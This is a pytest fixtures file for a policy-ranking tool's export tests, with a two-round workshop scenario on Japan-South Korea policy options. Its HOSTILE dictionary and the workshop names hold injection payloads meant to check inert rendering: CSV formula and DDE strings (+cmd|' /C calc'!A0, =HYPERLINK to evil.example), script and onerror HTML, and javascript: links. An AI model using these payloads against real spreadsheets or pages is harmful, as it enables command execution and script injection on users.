"""Export fixtures: reports of the tiny catalog (one with every part: two methods, a preset, a
SMAA section and a workshop section), a copy of the catalog full of hostile text, and a
workshop of two rounds with challenges, decisions and camps (:func:`two_round_room`).

The hostile catalog puts formula starts (``=``, ``+``, ``-``, ``@``: an option title each, and
``@`` at the start of a criterion's name too), HTML that would run, Markdown links and images
with ``javascript:`` and outside addresses into titles, names, rationales, quotes and a source's
title; the hostile report adds a workshop's rounds whose challenge carries a hostile reason and
quote: every export must carry them as inert text.
"""

from __future__ import annotations

import json
import shutil
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from policybench import catalog
from policybench.analysis.rank import rank_catalog
from policybench.analysis.screen import select
from policybench.analysis.workshop import group_result
from policybench.catalog import Catalog
from policybench.export.deliberation import Room, participant_names
from policybench.export.report import Report, build_report, smaa_section
from policybench.export.workshop_report import deliberation_sections, group_section
from policybench.store import Challenge, ScoreDecision, Submission, Workshop

FIXED_TIME = "2025-01-31T09:30:00Z"

HOSTILE = {
    "formula_title": '=HYPERLINK("http://evil.example/?q="&A1,"click")',
    "minus_title": "-2+3",
    "plus_title": "+cmd|' /C calc'!A0",
    "at_name": "@SUM(1+1) <b>bold</b>",
    "at_title": "@SUM(1+1)*cmd|' /C calc'!A0",
    "group_name": "<script>alert('group')</script>",
    "rationale": "<img src=x onerror=alert(1)> [click](javascript:alert(1)) https://evil.example/track.png",
    "quote": "<script>alert(1)</script> ![x](https://evil.example/x.png) www.evil.example",
    "source_title": "Read https://evil.example/ & <i>more</i>",
    "challenge_reason": '=HYPERLINK("https://evil.example/r") <script>alert(4)</script> '
    "[why](javascript:alert(5)) **bold**",
    "challenge_quote": "@SUM(9) <img src=x onerror=alert(6)> ![q](https://evil.example/q.png)",
}


def _q(text: str) -> str:
    """A YAML double-quoted scalar (JSON strings are valid YAML)."""
    return json.dumps(text)


TINY_OPTIONS = Path(__file__).resolve().parents[1] / "fixtures" / "catalog"


@pytest.fixture(scope="module")
def tiny() -> Catalog:
    return catalog.load(TINY_OPTIONS)


@pytest.fixture(scope="module")
def hostile_options(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("hostile") / "catalog"
    shutil.copytree(TINY_OPTIONS, root)
    edits: dict[str, list[tuple[str, str]]] = {
        "policies/liaison.yaml": [
            ("title: Liaison officers", f"title: {_q(HOSTILE['formula_title'])}"),
            (
                "rationale: Test rationale for liaison on feasibility.",
                f"rationale: {_q(HOSTILE['rationale'])}",
            ),
            (
                'text: "One easy solution would be establishing a liaison position in each alliance headquarters"',
                f"text: {_q(HOSTILE['quote'])}",
            ),
        ],
        "policies/summits.yaml": [
            ("title: Regular summits", f"title: {_q(HOSTILE['minus_title'])}")
        ],
        "policies/two-plus-two.yaml": [
            ("title: A 2+2 meeting", f"title: {_q(HOSTILE['plus_title'])}")
        ],
        "policies/status-quo.yaml": [("title: Status quo", f"title: {_q(HOSTILE['at_title'])}")],
        "criteria.yaml": [("name: Chinese backlash", f"name: {_q(HOSTILE['at_name'])}")],
        "groups.yaml": [("name: Dialogue", f"name: {_q(HOSTILE['group_name'])}")],
        "sources.yaml": [
            (
                'title: "Japan-South Korea: So Close, Yet So Far"',
                f"title: {_q(HOSTILE['source_title'])}",
            )
        ],
    }
    for rel, pairs in edits.items():
        path = root / rel
        text = path.read_text(encoding="utf-8")
        for old, new in pairs:
            assert old in text, (rel, old)
            text = text.replace(old, new)
        path.write_text(text, encoding="utf-8")
    return root


@pytest.fixture(scope="module")
def hostile(hostile_options: Path) -> Catalog:
    return catalog.load(hostile_options)


@pytest.fixture(scope="module")
def make_report() -> Callable[..., Report]:
    """``make_report(cat, methods=("wsm", "topsis"), preset=None, **kw)``: a report at a fixed
    time, of the options in play (``selection``, default :func:`select` of the catalog)."""

    def make(
        cat: Catalog,
        methods: tuple[str, ...] = ("wsm", "topsis"),
        preset: str | None = None,
        **kw: Any,
    ) -> Report:
        weights = dict(cat.presets_by_id[preset].weights) if preset else None
        label = f"preset {preset}" if preset else "equal weights"
        kw.setdefault("selection", select(cat))
        options = kw["selection"].options if kw["selection"] is not None else None
        rankings = [
            rank_catalog(cat, weights, method=m, label=label, options=options) for m in methods
        ]
        kw.setdefault("timestamp", FIXED_TIME)
        return build_report(cat, rankings, preset=preset, weights_given=weights, **kw)

    return make


class FakeSMAA:
    """A SMAA result with an option that is never first (NaN central weights)."""

    def __init__(self, n: int, m: int) -> None:
        import numpy as np

        self.rank_acceptability = np.eye(n)[::-1] * 0.5 + np.full((n, n), 0.5 / n)
        self.rank_acceptability[0] = [0.0] + [1.0 / (n - 1)] * (n - 1)
        self.central_weights = np.full((n, m), 1.0 / m)
        self.central_weights[0] = np.nan
        self.confidence = np.linspace(0.0, 1.0, n)


def full_report(
    cat: Catalog, make_report: Callable[..., Report], *, deliberation: bool = False, **kw: Any
) -> Report:
    """Two methods, a preset, a SMAA section and a workshop section, at a fixed time; with
    ``deliberation``, the two-round room's rounds, contested scores, decisions and camps after
    them, its challenges carrying the hostile reason and quote under hostile names."""
    smaa = smaa_section(
        FakeSMAA(len(cat.options), len(cat.criteria)),
        cat.option_ids,
        cat.criterion_ids,
        cat,
        method="wsm",
        normalization="scale",
        samples=1000,
        seed=0,
    )
    result = group_result(
        cat,
        cat.option_ids,
        cat.criterion_ids,
        [
            {"feasibility": 1, "deterrence": 5, "backlash": 1},
            {"feasibility": 4, "deterrence": 1, "backlash": 2},
        ],
        combination="borda",
    )
    group = group_section(
        cat,
        result,
        title="Seminar <script>alert('w')</script>",
        names=["=cmd|' /C calc'!A0", "<img src=x onerror=alert(2)>"],
        reasons=[{"deterrence": "[x](javascript:alert(3)) https://evil.example/"}, {}],
    )
    sections = [smaa, group]
    if deliberation:
        room = two_round_room(cat, hostile=True)
        labels = participant_names(room.rounds, room.challenges, names=True)
        sections += deliberation_sections(
            cat, cat.option_ids, cat.criterion_ids, room.rounds, room.challenges,
            room.decisions, labels,
            Room("wsm", combination=room.shop.combination, overrides=room.overrides),
            seen=room.seen,
        )  # fmt: skip
    return make_report(cat, ("wsm", "topsis"), preset="hawk", sections=sections, **kw)


@pytest.fixture(scope="module")
def report(tiny: Catalog, make_report: Callable[..., Report]) -> Report:
    return full_report(tiny, make_report)


@pytest.fixture(scope="module")
def hostile_report(hostile: Catalog, make_report: Callable[..., Report]) -> Report:
    return full_report(hostile, make_report, deliberation=True)


# ------------------------------------------------------------------------------ a workshop
#: When the two-round room happened (every time in it is fixed, so its exports are golden).
ROOM_TIME = datetime(2025, 1, 31, 9, 0, tzinfo=UTC)
#: Two obvious camps on the tiny catalog: deterrence first (Liaison officers, then the 2+2
#: meeting) and feasibility with little backlash (the status quo, then summits), whose
#: rankings are each other's reverse.
DETERRENCE = (
    {"feasibility": 1.0, "deterrence": 8.0, "backlash": 1.0},
    {"feasibility": 1.0, "deterrence": 7.0, "backlash": 2.0},
    {"feasibility": 2.0, "deterrence": 8.0, "backlash": 1.0},
)
CAUTION = (
    {"feasibility": 5.0, "deterrence": 1.0, "backlash": 5.0},
    {"feasibility": 6.0, "deterrence": 1.0, "backlash": 4.0},
    {"feasibility": 4.0, "deterrence": 1.0, "backlash": 6.0},
)
#: Round 2: dan (cautious in round 1) moves to deterrence first, and gus joins the cautious.
DAN_ROUND_2 = {"feasibility": 1.0, "deterrence": 6.0, "backlash": 2.0}
GUS = {"feasibility": 4.0, "deterrence": 1.0, "backlash": 6.0}
TOKYO_REASON = "Tokyo cannot staff liaison posts this year."
VERIFIED_QUOTE = (
    "Policy consultations between Japan and South Korea should be institutionalized and "
    "strengthened."
)


@dataclass(frozen=True)
class TwoRoundRoom:
    """A workshop as the store gives it: the workshop, each round's submissions (join order),
    every live challenge (named, as the facilitator reads them) and the decisions."""

    shop: Workshop
    rounds: dict[int, list[Submission]]
    challenges: list[Challenge]
    decisions: list[ScoreDecision] = field(default_factory=list)
    seen: dict[int, list[Challenge]] = field(default_factory=dict)  # at each reveal

    @property
    def overrides(self) -> dict[str, dict[str, float]]:
        from policybench.analysis.contest import overrides_from

        return overrides_from(self.decisions)


def two_round_room(cat: Catalog, *, hostile: bool = False) -> TwoRoundRoom:
    """Seven people over two rounds in two camps (see :data:`DETERRENCE`, :data:`CAUTION`),
    four challenges on two cells (liaison's feasibility, one quote verified; summits'
    deterrence, one quote unverified), the first adopted at its median 2.5 (range 2–3), the
    second rejected. ``hostile``: the first challenger is named like a formula and gives the
    hostile reason and quote, and ana's reason is hostile too."""

    def at(minutes: int) -> datetime:
        return ROOM_TIME + timedelta(minutes=minutes)

    def sub(
        name: str, weights: dict[str, float], rnd: int, why: dict[str, str] | None = None
    ) -> Submission:
        return Submission(name, dict(weights), dict(why or {}), 1, at(10 * rnd), at(10 * rnd), rnd)

    ana = "=cmd|' /C calc'!A0" if hostile else "ana"
    ana_why = HOSTILE["rationale"] if hostile else "North Korea's missiles come first."
    one = [
        sub(ana, DETERRENCE[0], 1, {"deterrence": ana_why}),
        sub("bob", DETERRENCE[1], 1),
        sub("cy", DETERRENCE[2], 1, {"deterrence": "Deterrence is what the alliance is for."}),
        sub("dan", CAUTION[0], 1),
        sub("eve", CAUTION[1], 1, {"backlash": "Beijing retaliates against anything trilateral."}),
        sub("fay", CAUTION[2], 1, {"feasibility": "Only what both cabinets can sell at home."}),
    ]
    two = [
        sub(ana, DETERRENCE[0], 2, {"deterrence": ana_why}),
        sub("bob", DETERRENCE[1], 2),
        sub("cy", DETERRENCE[2], 2),
        sub("dan", DAN_ROUND_2, 2, {"deterrence": "The missile tests since round 1 moved me."}),
        sub("eve", CAUTION[1], 2),
        sub("fay", CAUTION[2], 2),
        sub("gus", GUS, 2),
    ]
    challenges = [
        Challenge(
            ana, "liaison", "feasibility", 2.0, 1.0, 3.0,
            HOSTILE["challenge_reason"] if hostile else TOKYO_REASON,
            HOSTILE["challenge_quote"] if hostile else VERIFIED_QUOTE,
            "nishino-2017", "verified", 1, at(12), at(12),
        ),
        Challenge(
            "dan", "liaison", "feasibility", 3.0, None, None,
            "Both defence ministries must agree first.", None, None, "not_checked", 2, at(21),
            at(21),
        ),
        Challenge(
            "eve", "summits", "deterrence", 6.0, None, None,
            "Summits signal unity to Pyongyang.", "Summits deter.", "glosserman-2018",
            "not_found", 1, at(13), at(13),
        ),
        Challenge(
            "fay", "summits", "deterrence", 5.0, 4.0, 6.0,
            "Only when they produce a joint statement.", None, None, "not_checked", 2, at(22),
            at(22),
        ),
    ]  # fmt: skip
    decisions = [
        ScoreDecision("liaison", "feasibility", "adopted", 2.5, 2.0, 3.0, 2, at(30)),
        ScoreDecision("summits", "deterrence", "rejected", None, None, None, 2, at(31)),
    ]
    shop = Workshop(
        code="K7Q2M9XW",
        title="Seoul seminar <b>" if hostile else "Seoul seminar",
        options=tuple(cat.option_ids),
        criteria=tuple(cat.criterion_ids),
        state="revealed",
        created_at=ROOM_TIME,
        updated_at=at(31),
        catalog_fingerprint=cat.fingerprint,
        revealed_at=at(25),
        round=2,
        combination="borda",  # the facilitator's choice: every export of the room ranks by it
    )
    # Round 1's reveal showed the two challenges made in round 1; round 2's, all four.
    seen = {1: [c for c in challenges if c.round == 1], 2: list(challenges)}
    return TwoRoundRoom(shop, {1: one, 2: two}, challenges, decisions, seen)
